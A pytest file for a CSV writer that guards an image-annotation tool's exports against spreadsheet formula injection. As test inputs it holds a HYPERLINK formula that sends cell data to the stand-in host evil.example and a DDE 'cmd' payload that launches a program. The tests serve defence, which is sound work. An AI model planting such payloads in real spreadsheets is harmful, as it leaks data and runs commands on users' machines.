"""One CSV writer, safe against spreadsheet formula injection (issue 11, item 16), in every CSV the
product writes: qa --csv, lint --csv, Open Images tables and the mask folder's images.csv."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from pixelproof.cli import main
from pixelproof.core.coco import load_project
from pixelproof.core.safe_csv import Writer, cell, read_cell
from tests.cli.test_report_outputs_cli import scored_project

EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"])
def test_text_starting_like_a_formula_is_neutralised_and_read_back(text: str) -> None:
    assert cell(text) == "'" + text
    assert read_cell(cell(text)) == text


@pytest.mark.parametrize("text", ["'=1", "''+x", "'-1", "'@a"])
def test_text_that_already_starts_with_an_apostrophe_before_a_formula_start_reads_back_whole(
    text: str,
) -> None:
    assert read_cell(cell(text)) == text


@pytest.mark.parametrize("value", [-0.5, 3, 0.0, True, "-0.5", "+1e-3", "-12", "cat", "it's", "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert cell(value) == value
    if isinstance(value, str):
        assert read_cell(value) == value


def test_writer_rows() -> None:
    out = io.StringIO()
    Writer(out).writerows([["name", None, -0.5, {"a": [1]}], [EVIL, "-1", 2, "=1"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "", "-0.5", '{"a":[1]}'], ["'" + EVIL, "-1", "2", "'=1"]]


def test_qa_csv_neutralises_a_category_named_like_a_formula(tmp_path: Path) -> None:
    project = scored_project(tmp_path / "p.json", EVIL)
    assert main(["qa", str(project), str(project), "--csv", str(tmp_path / "qa.csv")]) == 0
    rows = list(csv.DictReader((tmp_path / "qa.csv").open(encoding="utf-8")))
    assert rows[0]["category"] == "'" + EVIL
    assert float(rows[0]["dice"]) == 1.0  # numbers stay numbers


def test_openimages_tables_are_safe_and_round_trip(tmp_path: Path) -> None:
    from pixelproof.interop.openimages import read_openimages, write_openimages

    project = load_project(scored_project(tmp_path / "p.json", EVIL))
    write_openimages(project, tmp_path / "oi", images="copy")
    text = (tmp_path / "oi" / "annotations" / "class-descriptions.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    back = read_openimages(tmp_path / "oi").project
    assert [c.name for c in back.categories.values()] == [EVIL]
    assert len(back.annotations) == 1


def test_mask_folder_listing_is_safe_and_round_trips(tmp_path: Path) -> None:
    from pixelproof.interop import read_masks, write_masks

    (tmp_path / "src").mkdir()
    project = load_project(scored_project(tmp_path / "src" / "p.json", "cat"))
    image = project.images[1]
    (tmp_path / "src" / "a.png").rename(tmp_path / "src" / "-a.png")
    image.file_name = "-a.png"
    write_masks(project, tmp_path / "out", images="keep")
    listing = (tmp_path / "out" / "images.csv").read_text(encoding="utf-8").splitlines()
    assert listing[1] == "'-a.png,../src/-a.png"  # the mask's name starts like a formula
    back = read_masks(tmp_path / "out").project
    [im] = back.images.values()
    assert Path(back.image_path(im)).resolve() == (tmp_path / "src" / "-a.png").resolve()
